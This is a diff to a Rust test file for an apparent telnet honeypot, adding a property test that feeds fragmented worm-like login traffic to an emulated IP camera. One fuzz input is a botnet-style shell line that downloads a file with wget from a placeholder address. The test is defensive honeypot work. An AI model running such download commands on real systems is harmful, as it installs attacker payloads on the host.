@@ -1,5 +1,6 @@
 //! Transcripts of `telnet_login`.
 
+use proptest::prelude::*;
 use tarpit_proto::{persona::Persona, rng::Seed};
 
 use crate::stage::Stage;
@@ -191,4 +192,49 @@ fn a_hand_over_amid_a_line_loses_nothing() {
     stage.heard();
     stage.says("id\r\n").pass_secs(3).hand_over().pass_secs(9);
     assert!(stage.heard().ends_with(r"uid=0(root) gid=0(root)\r\n# "));
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(64))]
+
+    #[test]
+    fn a_worm_is_read_the_same_however_its_bytes_are_cut(
+        said in prop::collection::vec(
+            prop_oneof![
+                Just(&b"\xFF\xFB\x18"[..]),
+                Just(&b"\xFF\xFA\x18\0XTERM\xFF\xF0"[..]),
+                Just(&b"root"[..]),
+                Just(&b"\r\n"[..]),
+                Just(&b"\r\0"[..]),
+                Just(&b"\x7F"[..]),
+                Just(&b"echo -e '\\x41'; wget http://192.0.2.9/x"[..]),
+                Just(&b"\xFF"[..]),
+            ],
+            0..30,
+        ),
+        cuts in prop::collection::vec(1_usize..20, 0..20),
+        poison: bool,
+    ) {
+        let said = [&b"\xFF\xFC\x01"[..], &said.concat()].concat();
+        let heard = |cuts: &[usize]| {
+            let mut stage = played("ip-camera");
+            stage.profile.poison = poison;
+            let mut stage = stage.open();
+            let mut rest = &said[..];
+            for &cut in cuts {
+                let (part, left) = rest.split_at(cut.min(rest.len()));
+                rest = left;
+                if !part.is_empty() {
+                    stage.says(part);
+                }
+            }
+            if !rest.is_empty() {
+                stage.says(rest);
+            }
+            stage.pass_secs(600);
+            // The first news shows as many bytes as there were when they were recognised.
+            (stage.text(), stage.news.split_off(1), stage.session.heard())
+        };
+        prop_assert_eq!(heard(&[]), heard(&cuts));
+    }
 }
